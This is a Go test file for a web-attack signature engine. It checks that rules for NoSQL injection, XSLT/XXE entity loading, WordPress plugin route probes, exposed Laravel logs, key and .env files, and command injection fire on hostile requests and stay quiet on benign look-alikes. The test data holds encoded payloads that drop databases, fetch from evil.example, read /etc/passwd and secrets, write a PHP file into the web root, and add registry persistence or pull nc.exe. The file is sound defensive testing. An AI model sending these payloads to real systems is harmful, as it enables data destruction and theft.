package patterns

import "testing"

// Session 15 fixes of review rev14fix's signature findings (items 1-5 on
// 5f4946c and 8c2f4d6) and of the entity-name false ban of
// cmdi-shell-command: each red shape beside the look-alike that must stay
// quiet.
func TestFixS15Sig(t *testing.T) {
	t.Parallel()
	m := mustCompile(t, Options{})
	for _, c := range []s12Case{
		// 1. nosqli-shell-call: a closer, a literal, any number, a $where expression
		{"GET", "/api/items", "id=1%29%3B%20db.dropDatabase%28%29%3B%20%2F%2F", "", 200, "nosqli-shell-call", true},
		{"GET", "/api/items", "id=1%29%29%3B%20db.getCollectionNames%28%29%3B%20%2F%2F", "", 200, "nosqli-shell-call", true},
		{"GET", "/api/items", "id=%7B%7D%3B%20db.users.drop%28%29", "", 200, "nosqli-shell-call", true},
		{"GET", "/api/items", "id=%5B1%5D%3B%20db.users.drop%28%29", "", 200, "nosqli-shell-call", true},
		{"GET", "/api/items", "id=00000000000000001%3Bdb.dropDatabase%28%29", "", 200, "nosqli-shell-call", true},
		{"GET", "/api/items", "q=this.a%20%3E%201%3B%20db.users.drop%28%29", "", 200, "nosqli-shell-call", true},
		{"GET", "/api/items", "page=2&id=1%27%29%3B%20db.users.drop%28%29%3B%20%28%27", "", 200, "nosqli-shell-call", true},
		// 2. ... and a one-word shell line pasted in a search does not count
		{"GET", "/search", "q=mongosh%3B%20db.version%28%29", "", 200, "nosqli-shell-call", false},
		{"GET", "/search", "q=shell%3B%20db.users.find%28%29", "", 200, "nosqli-shell-call", false},
		{"GET", "/search", "q=db.stats%3B%20db.serverStatus%28%29", "", 200, "nosqli-shell-call", false},
		{"GET", "/search", "q=replica%3B%20db.isMaster%28%29", "", 200, "nosqli-shell-call", false},
		{"GET", "/questions/search", "q=var%20n%20%3D%205%3B%20db.items.find%28%29.limit%28n%29", "", 200, "nosqli-shell-call", false},
		{"GET", "/questions/search", "q=var%20n%20%3D5%3B%20db.items.find%28%29", "", 200, "nosqli-shell-call", false},
		{"GET", "/search", "q=db.users.find%28%29%3B%20db.orders.find%28%29", "", 200, "nosqli-shell-call", false},
		// 3. xxe-entity: href anywhere in include/import, XSLT 2-3 loaders, result-document writing out
		{"GET", "/transform", "xsl=%3Cxsl%3Aimport%20id%3D%22a%22%20href%3D%22http%3A%2F%2Fevil.example%2Fx.xsl%22%2F%3E", "", 200, "xxe-entity", true},
		{"GET", "/transform", "xsl=%3Cxsl%3Ainclude%20xmlns%3Ae%3D%22urn%3Ax%22%20href%3D%22http%3A%2F%2Fevil.example%2Fx.xsl%22%2F%3E", "", 200, "xxe-entity", true},
		{"GET", "/transform", "xsl=%3Cxsl%3Avariable%20name%3D%22a%22%20select%3D%22unparsed-text-lines%28%27%2Fetc%2Fpasswd%27%29%22%2F%3E", "", 200, "xxe-entity", true},
		{"GET", "/transform", "xsl=%3Cxsl%3Asequence%20select%3D%22doc%28%27http%3A%2F%2Fevil.example%2Fx.xml%27%29%22%2F%3E", "", 200, "xxe-entity", true},
		{"GET", "/transform", "xsl=%3Cxsl%3Aresult-document%20href%3D%22file%3A%2F%2F%2Fvar%2Fwww%2Fhtml%2Fs.php%22%3Ex%3C%2Fxsl%3Aresult-document%3E", "", 200, "xxe-entity", true},
		{"GET", "/transform", "xsl=%3Cxsl%3Afor-each%20select%3D%22json-doc%28%27http%3A%2F%2Fevil.example%2Fx.json%27%29%22%2F%3E", "", 200, "xxe-entity", true},
		{"GET", "/transform", "xsl=%3Cxsl%3Avalue-of%20select%3D%22environment-variable%28%27DB_PASSWORD%27%29%22%2F%3E", "", 200, "xxe-entity", true},
		{"GET", "/search", "q=%3Cxsl%3Aresult-document%20href%3D%22chapter1.html%22%3E", "", 200, "xxe-entity", false},
		{"GET", "/search", "q=%3Cxsl%3Aapply-templates%20select%3D%22%40%2A%7Cnode%28%29%22%2F%3E%20docs", "", 200, "xxe-entity", false},
		// 4. WordPress takes ?_method=POST on any method (WP_REST_Server)
		{"GET", "/wp-json/bricks/v1/render_element", "_method=POST", "", 404, "cve-wp-plugin-route-miss", true},
		{"GET", "/", "rest_route=/sure-triggers/v1/automation/action&_method=POST", "", 404, "cve-wp-plugin-route-miss", true},
		{"GET", "/wp-json/bricks/v1/render_element", "_method=GET", "", 404, "cve-wp-plugin-route-miss", false},
		{"GET", "/wp-json/bricks/v1/render_element", "x_method=POST", "", 404, "cve-wp-plugin-route-miss", false},
		{"GET", "/wp-json/post-smtp/v1/get-logs", "fcm_token=abc&page=1&_method=POST", "", 404, "cve-wp-plugin-route-miss", false},
		// 5. sensitive-laravel-log: only File Browser's /api/raw/ and /api/resources/ are spared
		{"GET", "/api/backend/storage/logs/laravel.log", "", "", 404, "sensitive-laravel-log", true},
		{"GET", "/api/app/storage/logs/laravel.log", "", "", 404, "sensitive-laravel-log", true},
		{"GET", "/api/raw/storage/logs/laravel-2026-12-06.log", "", "", 404, "sensitive-laravel-log", false},
		{"GET", "/api/resources/storage/logs/laravel.log", "", "", 404, "sensitive-laravel-log", false},
		// B. an HTML entity reference is no '&' separator before a command
		{"GET", "/search", "text=%26copy;+%26reg;", "", 200, "cmdi-shell-command", false},
		{"GET", "/search", "text=%26copy;", "", 200, "cmdi-shell-command", false},
		{"GET", "/search", "text=%26copy;+2026+Acme", "", 200, "cmdi-shell-command", false},
		{"GET", "/search", "q=%26del;%26sc;%26dd;", "", 200, "cmdi-shell-command", false},
		{"GET", "/search", "text=%26amp;copy;+%26amp;reg;", "", 200, "cmdi-shell-command", false},
		{"GET", "/api/run", "x=1;reg+add+HKLM%5CSoftware%5CMicrosoft%5CWindows%5CCurrentVersion%5CRun+/v+x+/d+c:%5Cx.exe", "", 200, "cmdi-shell-command", true},
		{"GET", "/api/run", "x=a%26+reg+query+HKLM%5CSAM", "", 200, "cmdi-shell-command", true},
		{"GET", "/api/run", "x=%26reg;add+HKCU%5CSoftware%5Cx", "", 200, "cmdi-shell-command", true},
		{"GET", "/api/run", "x=%26copy;%5C%5C10.0.0.9%5Cs%5Cnc.exe+c:%5Cnc.exe", "", 200, "cmdi-shell-command", true},
		{"GET", "/api/run", "x=%26copy;+id;", "", 200, "cmdi-shell-command", true},
		{"GET", "/api/run", "x=%26copy+/y+a+b", "", 200, "cmdi-shell-command", true},
		{"GET", "/api/run", "x=%26%26id", "", 200, "cmdi-shell-command", true},
		{"GET", "/search", "q=%26dir;", "", 200, "cmdi-shell-command", true},
	} {
		if got := s12Fires(t, m, c); got != c.want {
			t.Errorf("%s %s?%s (%d): %s fired %v, want %v", c.method, c.path, c.query, c.status, c.rule, got, c.want)
		}
	}
}

// Review rev-sig s15 MEDIUM-3 on 48881ab: a printf format's one-letter
// conversions in a row are no entity-reference run; a payload's names are.
func TestFixS15EntityRunPrintf(t *testing.T) {
	t.Parallel()
	m := mustCompile(t, Options{})
	for _, c := range []s12Case{
		{"GET", "/admin/translations", "value=%25d%3B%25s%3B", "", 200, "xxe-entity-reference", false},
		{"GET", "/admin/translations", "value=%25s%3B%20%25d%3B", "", 200, "xxe-entity-reference", false},
		{"GET", "/api/parse", "x=%25eval%3B%25exfil%3B", "", 200, "xxe-entity-reference", true},
		{"GET", "/api/parse", "x=%25dtd%3B", "", 200, "xxe-entity-reference", true},
	} {
		if got := s12Fires(t, m, c); got != c.want {
			t.Errorf("%s %s?%s (%d): %s fired %v, want %v", c.method, c.path, c.query, c.status, c.rule, got, c.want)
		}
	}
}

// Review rev-sig s15 MEDIUM-1 and -2 on 490c75c: a post's slug about keys,
// a shared public key and a docs page's .env template below the root are
// no certain names; the key, its backups and a shallow template are.
func TestFixS15CertainNameLookalikes(t *testing.T) {
	t.Parallel()
	m := mustCompile(t, Options{})
	for _, c := range []s12Case{
		{"GET", "/blog/id_rsa-vs-id_ed25519", "", "", 404, "sensitive-certain-name", false},
		{"GET", "/s/Xk29aQ/download/id_rsa.pub.txt", "", "", 404, "sensitive-certain-name", false},
		{"GET", "/docs/getting-started/.env.example", "", "", 404, "sensitive-certain-name", false},
		{"GET", "/id_rsa", "", "", 404, "sensitive-certain-name", true},
		{"GET", "/backup/id_ed25519_deploy", "", "", 404, "sensitive-certain-name", true},
		{"GET", "/id_rsa.bak", "", "", 404, "sensitive-certain-name", true},
		{"GET", "/.env.production", "", "", 404, "sensitive-certain-name", true},
		{"GET", "/app/.env.example", "", "", 404, "sensitive-certain-name", true},
		{"GET", "/a/b/.env.local", "", "", 404, "sensitive-certain-name", true},
	} {
		if got := s12Fires(t, m, c); got != c.want {
			t.Errorf("%s %s?%s (%d): %s fired %v, want %v", c.method, c.path, c.query, c.status, c.rule, got, c.want)
		}
	}
}
